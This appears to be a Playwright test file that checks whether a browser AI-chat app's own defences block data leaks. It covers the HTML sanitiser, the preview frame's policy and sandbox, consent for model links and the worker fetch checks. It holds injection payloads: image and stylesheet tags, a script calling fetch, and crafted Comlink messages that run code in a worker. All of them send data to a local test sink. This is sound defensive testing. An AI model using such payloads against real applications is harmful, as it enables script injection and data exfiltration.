// Tests, one by one, the walls that are part of the app's own code. The policy is off if it would cover the same ways
// out.

import type { Browser, Page } from '@playwright/test';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { changePolicy, withDirective, withoutPolicy, type Change } from '../changed-app.ts';
import { pretendWalls } from '../pretend.ts';
import { withApp, type Opened } from './attempt.ts';
import type { InTurn, Row } from './row.ts';
import type { CodeWall } from './takeable-app.ts';

const PICTURE = 'public/samples/signs-1.webp';
const SETTLE_MS = 2000;

interface Trial {
  name: string;
  wall: CodeWall;
  /** Other walls in the code that cover the same ways; they are always removed together with this one. */
  coveredBy?: readonly CodeWall[];
  change: (sink: Opened['sink']) => Change;
  /** The number of ways. */
  ways: number;
  /** Tries the ways; returns those that leaked while the walls in `away` were removed. */
  out: (opened: Opened, away: readonly CodeWall[]) => Promise<string[]>;
}

const PREVIEW: readonly CodeWall[] = ['sanitiser', 'preview-policy', 'preview-sandbox'];

/** The three walls of a preview cover each other, and the page's policy covers all of them, too. */
const previewTrial = (wall: CodeWall, name: string, kinds: readonly PreviewWay[]): Trial => ({
  name: `HTML preview: ${name}`,
  wall,
  coveredBy: PREVIEW.filter((each) => each !== wall),
  change: () => withoutPolicy,
  ways: kinds.length,
  out: preview(kinds),
});

const trials = (project: string): readonly Trial[] => [
  previewTrial('sanitiser', 'sanitiser', ['image', 'style', 'script']),
  previewTrial('preview-policy', 'policy of its frame', ['image', 'style', 'script']),
  previewTrial('preview-sandbox', 'sandbox of its frame', ['script']),
  {
    name: 'answers: text only',
    wall: 'text-only',
    change: () => withoutPolicy,
    ways: 1,
    out: async (opened, away) => {
      const { page, sink } = opened;
      await openTaken(opened, away, { isOff: true });
      const before = sink.arrivals.length;
      await showAnswer(
        page,
        `![x](https://127.0.0.1:${sink.port}/x) <img src="http://127.0.0.1:${sink.port}/y">`,
      );
      await page.waitForTimeout(SETTLE_MS);
      return sink.arrivals.length > before ? ['image'] : [];
    },
  },
  {
    name: 'link to a model: consent',
    wall: 'consent',
    change: toSink,
    ways: 1,
    out: async (opened, away) => {
      const { sink, page } = opened;
      const link = `http://127.0.0.1:${sink.port}/model/`;
      await openTaken(opened, away, { search: `?model=${encodeURIComponent(link)}` });
      await page.waitForTimeout(2 * SETTLE_MS);
      return sink.arrivals.some((arrival) => arrival.includes('/model/')) ? ['link'] : [];
    },
  },
  {
    name: 'weights worker: what it may fetch',
    wall: 'may-fetch',
    change: toSink,
    ways: 1,
    out: async (opened, away) => {
      const { sink, page } = opened;
      await openTaken(opened, []);
      const source = { kind: 'package', url: `http://127.0.0.1:${sink.port}/secret/${'x'.repeat(300)}/` };
      await page.evaluate(tellWorker, [
        script(project, away),
        {
          type: 'APPLY',
          path: ['download'],
          argumentList: ['1', { id: 'x', name: 'x', source }, null].map((value) => ({ type: 'RAW', value })),
        },
        null,
      ] as const);
      await page.waitForTimeout(SETTLE_MS);
      return sink.arrivals.some((arrival) => arrival.includes('/secret/')) ? ['long link'] : [];
    },
  },
  {
    name: 'weights worker: calls of its API only',
    wall: 'checked-port',
    change: () => (value, header, path) =>
      /^(Content-Security-Policy|Connection-Allowlist)$/.test(header) &&
      path.startsWith('/assets/weights.worker')
        ? undefined
        : value,
    ways: 1,
    out: async (opened, away) => {
      const { sink, page } = opened;
      await openTaken(opened, []);
      const code = `fetch('http://127.0.0.1:${sink.port}/code', { mode: 'no-cors' })`;
      await page.evaluate(tellWorker, [
        script(project, away),
        {
          type: 'CONSTRUCT',
          path: ['list', 'constructor'],
          argumentList: [{ type: 'RAW', value: code }],
        },
        { type: 'APPLY', path: [], argumentList: [] },
      ] as const);
      await page.waitForTimeout(SETTLE_MS);
      return sink.arrivals.some((arrival) => arrival.includes('/code')) ? ['code'] : [];
    },
  },
  {
    name: 'pictures: none before all walls hold',
    wall: 'media-gate',
    change: () => changePolicy(/\/assets\/inference\.worker/, () => undefined),
    ways: 1,
    out: async (opened, away) => ((await takesPicture(opened, away)) ? ['picture'] : []),
  },
  {
    name: 'pictures: the media worker’s own walls',
    wall: 'own-walls',
    coveredBy: ['media-gate'],
    change: () => (value, header, path) =>
      header === 'Content-Security-Policy' && path.startsWith('/assets/media.worker') ? undefined : value,
    ways: 1,
    out: async (opened, away) => ((await takesPicture(opened, away)) ? ['picture'] : []),
  },
];

export function codeWalls(project: string): InTurn[] {
  return trials(project).map((trial): InTurn => [trial.name, (browser) => look(browser, project, trial)]);
}

async function look(browser: Browser, project: string, trial: Trial): Promise<Row> {
  const { wall, coveredBy = [], change, ways, out } = trial;
  const run = (away: readonly CodeWall[]): Promise<string[]> =>
    withApp(
      browser,
      (value, header, path) => changeOf(value, header, path),
      (opened) => {
        changeOf = change(opened.sink);
        return out(opened, away);
      },
      project,
    );
  let changeOf: Change = (value) => value;
  const outAlone = await run(coveredBy);
  const outMissing = await run([wall, ...coveredBy]);
  return { says: [], shouldSay: [], ways, outAlone, outMissing, othersOut: [] };
}

/** Lets the weights worker reach the sink, so that only the app's own checks stop it. */
function toSink({ port }: Opened['sink']): Change {
  return (value, header, path) => {
    if (!path.startsWith('/assets/weights.worker')) return value;
    if (header === 'Connection-Allowlist') return undefined;
    if (header !== 'Content-Security-Policy') return value;
    return withDirective(value, 'connect-src', `'self' http://127.0.0.1:${port}`);
  };
}

/** If `isOff`, the page is served without its policy and must start nevertheless. */
async function openTaken(
  { page, origin }: Opened,
  away: readonly CodeWall[],
  { search = '', isOff = false } = {},
): Promise<void> {
  await page.addInitScript((names) => {
    Object.assign(globalThis, { takenAway: names });
    // A worker receives the names in its address.
    const RealWorker = window.Worker;
    window.Worker = class extends RealWorker {
      constructor(url: string | URL, options?: WorkerOptions) {
        const isApps = /\/assets\/\w+\.worker/.test(String(url)) && names !== '';
        super(isApps && !String(url).includes('?') ? `${String(url)}?${names}` : url, options);
      }
    };
  }, away.join(' '));
  if (isOff) await pretendWalls(page);
  await page.goto(origin + search);
  await page.locator('h1').first().waitFor();
}

type PreviewWay = 'image' | 'style' | 'script';

function preview(kinds: readonly PreviewWay[]): Trial['out'] {
  return async (opened, away) => {
    const { page, sink } = opened;
    await openTaken(opened, away, { isOff: true });
    const at = (kind: string): string => `http://127.0.0.1:${sink.port}/${kind}`;
    const html = {
      image: `<img src="${at('image')}">`,
      style: `<link rel="stylesheet" href="${at('style')}">`,
      script: `<script>fetch('${at('script')}', { mode: 'no-cors' })</script>`,
    };
    await showAnswer(page, `\`\`\`html\n${kinds.map((kind) => html[kind]).join('\n')}\n\`\`\``);
    await page.getByRole('button', { name: 'Preview' }).click();
    await page.waitForTimeout(SETTLE_MS);
    return kinds.filter((kind) => sink.arrivals.some((arrival) => arrival.includes(`/${kind}`)));
  };
}

async function showAnswer(page: Page, answer: string): Promise<void> {
  const facts = { tokens: 9, promptTokens: 9, cachedTokens: 0, reason: 'eos' };
  const timings = { decodingMs: 0, visionMs: 0, prefillMs: 0, answeringMs: 1 };
  const turn = {
    ...{ id: 'one', question: 'a question', photos: [], answer, thoughtMs: null },
    answerer: { id: 'demo', backend: 'webgpu', precision: 'f32', thinks: false },
    options: { maxTokens: 64, sampling: {} },
    ending: { kind: 'answered', facts: { ...facts, timings } },
  };
  const saved = { format: 'darkroom-conversation', version: 1, id: 'hostile', photos: [], turns: [turn] };
  await page.getByRole('button', { name: 'Conversations' }).click();
  const buffer = Buffer.from(JSON.stringify(saved));
  await page
    .getByLabel('Open a saved JSON file')
    .setInputFiles({ name: 'saved.json', mimeType: 'application/json', buffer });
  await page.locator('dialog[open]').waitFor({ state: 'detached' });
  await page.getByText('a question', { exact: true }).first().waitFor();
}

async function takesPicture(opened: Opened, away: readonly CodeWall[]): Promise<boolean> {
  const { page } = opened;
  await openTaken(opened, away);
  await page.locator('input[type="file"]').first().setInputFiles(PICTURE);
  const refused = page.getByText('is not under the policy');
  const picture = page.locator('.attachments img, [data-attachments] img').first();
  await refused.or(picture).first().waitFor();
  return (await refused.count()) === 0;
}

const script = (project: string, away: readonly CodeWall[]): string => {
  const file = readdirSync(join(project, 'dist/assets')).find((name) => /^weights\.worker.*\.js$/.test(name));
  return `assets/${file ?? ''}?${away.join(' ')}`;
};

/**
 * Runs in the page. Sends a worker a message in Comlink's format, and then sends `then` to the port that the worker
 * returns.
 */
async function tellWorker([path, message, then]: readonly [string, object, object | null]): Promise<void> {
  const worker = new Worker(path, { type: 'module' });
  await new Promise((resolve) => {
    worker.onmessage = resolve;
    worker.onerror = resolve;
  });
  worker.onmessage = ({ data }: MessageEvent<{ value?: unknown } | undefined>) => {
    const port = data?.value;
    if (then !== null && port instanceof MessagePort) port.postMessage({ id: '2', ...then });
  };
  worker.postMessage({ id: '1', ...message });
}
